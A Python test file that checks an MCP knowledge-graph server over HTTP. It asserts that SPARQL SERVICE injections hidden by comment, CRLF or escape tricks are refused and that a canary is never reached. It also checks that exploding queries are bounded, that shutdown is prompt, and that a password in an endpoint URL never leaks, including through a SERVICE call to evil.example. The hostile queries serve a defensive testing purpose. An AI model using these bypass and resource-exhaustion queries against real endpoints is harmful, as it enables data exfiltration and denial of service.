"""Issue 28's checks over the MCP streamable-HTTP transport on the CWQ fixture, driven by the SDK's own client.

`kgfed mcp --timeout 10` on `file:cwq_subgraph.nt`: a hidden SERVICE never reaches a canary server; two
exploding queries come back as errors within 40 s while a 1-hop call made meanwhile answers within 5 s;
the server's RSS with its query workers stays under 1.5 GB; Ctrl-C stops it within seconds; a password in
an endpoint URL is shown nowhere a client can read.
"""
from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from .conftest import CWQ_NT, ROOT, need
from .test_guard import Canary
from .test_mcp import KGFED, env, free_port, http_server, refused, sparql_endpoint, store_of

mcp = pytest.importorskip("mcp")
from mcp import Client  # noqa: E402

FB = "http://rdf.freebase.com/ns/"
NAME = FB + "type.object.name"
CROSS = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f }"
PATH = f"SELECT * WHERE {{ ?a (<{NAME}>|!<{NAME}>)* ?b }}"


def tree_rss_mb(pid: int) -> float:
    """RSS of a process and all its descendants, in MB (Linux /proc)."""
    total, todo = 0, [pid]
    while todo:
        current = todo.pop()
        try:
            with open(f"/proc/{current}/status") as fh:
                total += next(int(line.split()[1]) for line in fh if line.startswith("VmRSS"))
            for task in os.listdir(f"/proc/{current}/task"):
                with open(f"/proc/{current}/task/{task}/children") as fh:
                    todo += [int(c) for c in fh.read().split()]
        except (FileNotFoundError, StopIteration, ProcessLookupError):
            continue
    return total / 1024


def server_pid(port: int) -> int:
    """The pid of the process listening on 127.0.0.1:port (the kgfed mcp child of the fixture)."""
    inode = None
    with open("/proc/net/tcp") as fh:
        for line in fh.readlines()[1:]:
            fields = line.split()
            if fields[1].endswith(f":{port:04X}") and fields[3] == "0A":
                inode = fields[9]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                if os.readlink(f"/proc/{pid}/fd/{fd}") == f"socket:[{inode}]":
                    return int(pid)
        except OSError:
            continue
    raise AssertionError(f"nothing listens on {port}")


def a_hub(path) -> str:
    """The CWQ subject with the most outgoing edges (a 1-hop call with a real answer)."""
    store = store_of(path)
    row = next(iter(store.query("SELECT ?s (COUNT(*) AS ?n) WHERE { ?s ?p ?o FILTER(STRSTARTS(STR(?s), "
                                f"'{FB}m.')) }} GROUP BY ?s ORDER BY DESC(?n) LIMIT 1")))
    return row["s"].value.removeprefix(FB)


@pytest.mark.slow
async def test_hostile_queries_over_mcp_http_are_refused_bounded_and_do_not_starve_lookups():
    need(CWQ_NT)
    hub = a_hub(CWQ_NT)
    canary = Canary()
    try:
        async with http_server("--kg", "freebase", "--endpoint", f"freebase=file:{CWQ_NT}", "--timeout", "10",
                               "--no-cache") as url, Client(url) as client:
            pid = server_pid(int(url.split(":")[2].split("/")[0]))
            # no comment, line end or escape hides a SERVICE
            for attack in (f"SELECT * WHERE {{ ?s ?p ?o #\r SERVICE <{canary.url}> {{ ?a ?b ?c }} \n}} LIMIT 1",
                           f"SELECT * WHERE {{ ?s ?p ?o #\r\n SERVICE SILENT <{canary.url}> {{ ?a ?b ?c }} }}",
                           f"SELECT * WHERE {{ ?s ?p ?o . SERVICE <{canary.url.replace(':', chr(92) + 'u003A')}> {{ ?a ?b ?c }} }}",
                           f"PREFIX c: <http://127.0.0.1:{canary.port}/> SELECT * WHERE {{ SERVICE c:x {{ ?a ?b ?c }} }}"):
                assert "SERVICE" in await refused(client, "sparql", query=attack)
            assert "too deeply nested" in await refused(client, "sparql", query="SELECT * WHERE " + "{" * 100 + "}" * 100)

            # two exploding queries and, meanwhile, a 1-hop lookup
            peak = [tree_rss_mb(pid)]
            done = asyncio.Event()

            async def watch() -> None:
                while not done.is_set():
                    peak.append(tree_rss_mb(pid))
                    await asyncio.sleep(0.2)

            async def heavy(query: str) -> tuple[float, str]:
                started = time.monotonic()
                result = await client.call_tool("sparql", {"query": query})
                assert result.is_error, f"{query} should have failed"
                return time.monotonic() - started, result.content[0].text

            watcher = asyncio.create_task(watch())
            started = time.monotonic()
            heavies = [asyncio.create_task(heavy(CROSS)), asyncio.create_task(heavy(PATH))]
            await asyncio.sleep(1.0)  # both are running in the workers now
            hop_started = time.monotonic()
            relations = (await client.call_tool("relations", {"entity": hub, "direction": "out"})).structured_content
            hop = time.monotonic() - hop_started
            neighbors = await client.call_tool("neighbors", {"entity": hub, "relation": relations["relations"][0]["relation"]})
            hop2 = time.monotonic() - hop_started
            outcomes = await asyncio.gather(*heavies)
            total = time.monotonic() - started
            done.set()
            await watcher
            assert relations["relations"] and not neighbors.is_error
            assert hop < 5 and hop2 < 5, (hop, hop2)
            for seconds, message in outcomes:
                assert seconds < 40 and ("was stopped" in message), (seconds, message)
                assert "\n" not in message and "Traceback" not in message
            assert total < 40
            assert max(peak) < 1500, max(peak)
            # the server answers normally afterwards, from fresh workers
            count = (await client.call_tool("sparql", {"query": "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"})).structured_content
            assert int(count["rows"][0]["n"]["value"]) == len(store_of(CWQ_NT))
        print(f"1-hop {hop:.2f} s and {hop2:.2f} s during two exploding queries; those failed after "
              f"{outcomes[0][0]:.1f} s and {outcomes[1][0]:.1f} s; peak RSS {max(peak):.0f} MB")
    finally:
        canary.close()
    assert canary.hits == []


@pytest.mark.slow
async def test_ctrl_c_stops_the_server_within_seconds_even_during_a_heavy_query():
    need(CWQ_NT)
    port = free_port()
    proc = await asyncio.create_subprocess_exec(
        str(KGFED), "mcp", "--transport", "http", "--port", str(port), "--kg", "freebase",
        "--endpoint", f"freebase=file:{CWQ_NT}", "--timeout", "60", "--no-cache",
        env=env(), cwd=str(ROOT), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        for _ in range(300):
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.close()
                break
            except OSError:
                await asyncio.sleep(0.1)
        async with Client(f"http://127.0.0.1:{port}/mcp") as client:
            task = asyncio.create_task(client.call_tool("sparql", {"query": CROSS}))
            await asyncio.sleep(2.0)
            children = [int(c) for t in os.listdir(f"/proc/{proc.pid}/task")
                        for c in Path(f"/proc/{proc.pid}/task/{t}/children").read_text().split()]
            assert children  # the query workers
            proc.send_signal(signal.SIGINT)
            started = time.monotonic()
            await asyncio.wait_for(proc.wait(), 10)
            stopped = time.monotonic() - started
            task.cancel()
            await asyncio.gather(task, return_exceptions=True)
    finally:
        if proc.returncode is None:
            proc.kill()
            await proc.wait()
    assert stopped < 10
    await asyncio.sleep(0.5)
    assert all(not os.path.exists(f"/proc/{c}") or Path(f"/proc/{c}/stat").read_text().split()[2] == "Z" for c in children)
    err = (await proc.stderr.read()).decode()
    assert "Traceback" not in err, err[-1500:]


async def test_a_password_in_an_endpoint_url_is_shown_nowhere():
    need(CWQ_NT)
    secret = "s3cretPassw0rd"
    store = store_of(CWQ_NT)
    async with sparql_endpoint(store) as endpoint:
        host = endpoint.url.split("//", 1)[1]
        spec = f"freebase=http://kguser:{secret}@{host}"
        dead = f"fb2=freebase@http://kguser:{secret}@127.0.0.1:{free_port()}/sparql"
        async with http_server("--endpoint", spec, "--endpoint", dead, "--no-cache", "--timeout", "5") as url, \
                Client(url) as client:
            seen = [client.instructions or ""]
            seen.append((await client.read_resource("kgfed://kgs")).contents[0].text)
            kgs = json.loads(seen[-1])
            assert [k["endpoint"].startswith("http://") for k in kgs] == [True, True]
            seen.append(await refused(client, "relations", entity="m.0nothing", kg="fb2"))  # a connection error
            seen.append(await refused(client, "sparql", kg="freebase",
                                      query=f"SELECT * WHERE {{ SERVICE <http://kguser:{secret}@evil.example/> {{ ?s ?p ?o }} }}"))
            ok = await client.call_tool("relations", {"entity": "m.0nothing", "kg": "freebase"})
            seen.append(json.dumps(ok.structured_content))
            for tool in ("sparql", "relations"):
                seen.append(json.dumps([t.model_dump() for t in (await client.list_tools()).tools if t.name == tool]))
    assert all(secret not in text for text in seen), [t[:300] for t in seen if secret in t]
    assert endpoint.seen  # the endpoint was really asked (with the password in a header, not the URL)


async def test_unknown_arguments_and_dialect():
    async with http_server("--dialect", "freebase", "--no-cache") as url, Client(url) as client:
        kgs = json.loads((await client.read_resource("kgfed://kgs")).contents[0].text)
        assert [(k["name"], k["dialect"]) for k in kgs] == [("freebase", "freebase")]
        message = await refused(client, "relations", entity="m.0282x", directon="out")
        assert "unknown argument directon" in message and "direction" in message
        asked = await client.call_tool("sparql", {"query": "ASK { ?s ?p ?o }", "kg": ""})  # "" = the one KG
        assert not asked.is_error and asked.structured_content["kg"] == "freebase"


def test_stdio_on_a_terminal_says_it_waits_for_a_client():
    if not KGFED.exists():
        pytest.skip("kgfed is not installed")
    import pty

    leader, follower = pty.openpty()
    proc = subprocess.Popen([str(KGFED), "mcp", "--dialect", "freebase", "--no-cache"], stdin=follower,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=env(), cwd=str(ROOT))
    os.close(follower)
    try:
        line = proc.stderr.readline().decode()
    finally:
        proc.send_signal(signal.SIGINT)
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        os.close(leader)
        proc.stderr.close()
    assert "waiting for an MCP client" in line, line
    assert proc.returncode is not None


def children_of(pid: int) -> set[int]:
    out: set[int] = set()
    for task in os.listdir(f"/proc/{pid}/task"):
        with open(f"/proc/{pid}/task/{task}/children") as fh:
            out |= {int(c) for c in fh.read().split()}
    return out


def busy(pids: set[int]) -> set[int]:
    """The processes among `pids` using CPU now (state R)."""
    running = set()
    for pid in pids:
        try:
            with open(f"/proc/{pid}/stat") as fh:
                if fh.read().rsplit(")", 1)[1].split()[0] == "R":
                    running.add(pid)
        except FileNotFoundError:
            continue
    return running


async def test_a_client_that_gives_up_ends_its_query_in_the_server():
    need(CWQ_NT)
    async with http_server("--kg", "freebase", "--endpoint", f"freebase=file:{CWQ_NT}", "--timeout", "120",
                           "--no-cache", "--query-workers", "1") as url, Client(url) as client:
        pid = server_pid(int(url.split(":")[2].split("/")[0]))
        assert not (await client.call_tool("sparql", {"query": "ASK { ?s ?p ?o }"})).is_error
        (worker,) = children_of(pid)
        task = asyncio.create_task(client.call_tool("sparql", {"query": CROSS}))
        for _ in range(50):
            await asyncio.sleep(0.1)
            if busy({worker}):
                break
        assert busy({worker}), "the query never started in the worker"
        task.cancel()  # the client gives up: the SDK sends notifications/cancelled
        await asyncio.gather(task, return_exceptions=True)
        for _ in range(50):
            await asyncio.sleep(0.1)
            if not os.path.exists(f"/proc/{worker}") or worker not in children_of(pid):
                break
        assert worker not in children_of(pid), "the abandoned query still runs"
        # and the server goes on answering, from a fresh worker
        count = (await client.call_tool("sparql", {"query": "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"})).structured_content
        assert int(count["rows"][0]["n"]["value"]) > 0
